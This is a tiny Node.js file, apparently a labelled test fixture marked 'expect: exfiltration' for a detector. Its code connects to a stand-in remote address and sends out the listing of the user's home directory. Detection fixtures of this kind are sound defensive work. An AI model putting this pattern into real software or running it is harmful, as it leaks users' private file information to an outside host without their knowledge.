// expect: exfiltration
const net = require("net");
const fs = require("fs");
const os = require("os");

const client = net.connect(443, "198.51.100.7");
client.write(JSON.stringify(fs.readdirSync(os.homedir())));
